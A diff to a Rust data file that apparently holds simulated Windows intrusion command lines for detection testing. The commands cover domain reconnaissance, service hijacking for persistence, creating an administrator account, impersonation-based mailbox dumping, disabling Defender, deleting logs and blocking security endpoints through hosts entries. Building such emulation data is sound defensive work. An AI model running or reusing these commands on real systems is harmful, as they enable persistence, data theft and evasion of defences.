@@ -10,6 +10,7 @@ use crate::truth::Weight;
 const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
 const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 const NET: &str = "C:\\Windows\\System32\\net.exe";
+const NET1: &str = "C:\\Windows\\System32\\net1.exe";
 const SCHTASKS: &str = "C:\\Windows\\System32\\schtasks.exe";
 
 const fn line(
@@ -34,7 +35,7 @@ pub(super) const LOOK_AROUND: [Line; 7] = [
         "cmd.exe /s /c \"net group \"Domain Controllers\" /domain\"",
         &[
             (NET, "net  group \"Domain Controllers\" /domain"),
-            ("C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1  group \"Domain Controllers\" /domain"),
+            (NET1, "C:\\Windows\\system32\\net1  group \"Domain Controllers\" /domain"),
         ],
     ),
     line(
@@ -218,7 +219,7 @@ pub(super) const PACK: [Line; 3] = [
 ];
 
 /// How they come back: a service that was there is bent, a job waits, an account is woken, a module is loaded.
-pub(super) const STAY: [Line; 4] = [
+pub(super) const STAY: [Line; 5] = [
     must(
         Technique::NewService,
         "cmd.exe /s /c \"sc con¦fig AppMgmt binPath= \"C:\\ProgramData\\Mozilla\\pingsender.exe --svc\" start= auto\"",
@@ -244,14 +245,18 @@ pub(super) const STAY: [Line; 4] = [
     ),
     must(
         Technique::NewAccount,
-        "cmd.exe /s /c \"net user DefaultAccount Fx_2021¦!ping /active:yes & net localgroup Administrators DefaultAccount /add\"",
+        "cmd.exe /s /c \"net user DefaultAccount Fx_2021¦!ping /active:yes\"",
         &[
             (NET, "net  user DefaultAccount Fx_2021¦!ping /active:yes"),
-            (
-                "C:\\Windows\\System32\\net1.exe",
-                "C:\\Windows\\system32\\net1  user DefaultAccount Fx_2021¦!ping /active:yes",
-            ),
+            (NET1, "C:\\Windows\\system32\\net1  user DefaultAccount Fx_2021¦!ping /active:yes"),
+        ],
+    ),
+    must(
+        Technique::GroupChange,
+        "cmd.exe /s /c \"net localgroup Administrators DefaultAccount /add\"",
+        &[
             (NET, "net  localgroup Administrators DefaultAccount /add"),
+            (NET1, "C:\\Windows\\system32\\net1  localgroup Administrators DefaultAccount /add"),
         ],
     ),
     Line {
@@ -362,7 +367,7 @@ pub(super) const AFTERMATH: Aftermath = Aftermath {
         ),
         (
             Technique::MailReading,
-            "Add-Type -Path 'F:\\Microsoft\\Exchange\\Bin\\Microsoft.Exchange.WebServices.dll'; $s = New-Object Microsoft.Exchange.WebServices.Data.Exchange¦Service; $s.UseDefaultCredentials = $true; foreach ($m in 'boardroom','a.lindqvist') { $s.Impersonated¦UserId = New-Object Microsoft.Exchange.WebServices.Data.Impersonated¦UserId('SmtpAddress', $m + '@quarry.example.org'); $s.FindItems('Inbox', (New-Object Microsoft.Exchange.WebServices.Data.ItemView(500))) | % { $_.Load(); [IO.File]::WriteAllBytes('C:\\ProgramData\\Mozilla\\out\\' + $_.Id.ChangeKey + '.eml', $_.MimeContent.Content) } }",
+            "Add-Type -Path 'F:\\Microsoft\\Exchange\\Bin\\Microsoft.Exchange.WebServices.dll'; $s = New-Object Microsoft.Exchange.WebServices.Data.Exchange¦Service; $s.UseDefaultCredentials = $true; foreach ($m in 'boardroom','a.sorensen') { $s.Impersonated¦UserId = New-Object Microsoft.Exchange.WebServices.Data.Impersonated¦UserId('SmtpAddress', $m + '@quarry.example.org'); $s.FindItems('Inbox', (New-Object Microsoft.Exchange.WebServices.Data.ItemView(500))) | % { $_.Load(); [IO.File]::WriteAllBytes('C:\\ProgramData\\Mozilla\\out\\' + $_.Id.ChangeKey + '.eml', $_.MimeContent.Content) } }",
         ),
         (
             Technique::ScriptRun,
@@ -392,7 +397,7 @@ pub(super) const AFTERMATH: Aftermath = Aftermath {
         (Technique::DefenceOff, "Set-Mp¦Preference -MAPSReporting 0 -Exclusion¦Extension .dat,.mdmp -Force"),
         (Technique::LogDeletion, "Get-ChildItem E:\\weblogs\\W3SVC1\\u_ex21030[9].log | % { Set-Content $_ $null }"),
     ],
-    hosts: &["127.0.0.1 wdcp.microsoft.com", "127.0.0.1 wdcpalt.microsoft.com"],
+    hosts: &["127.0.0.1 ctldl.windowsupdate.com", "127.0.0.1 ussus1eastprod.blob.core.windows.net"],
     exclusion: "C:\\ProgramData\\Mozilla",
     threat: "Back¦door:MSIL/Chopper.F!dha",
     ransom: ransom::RANSOM,
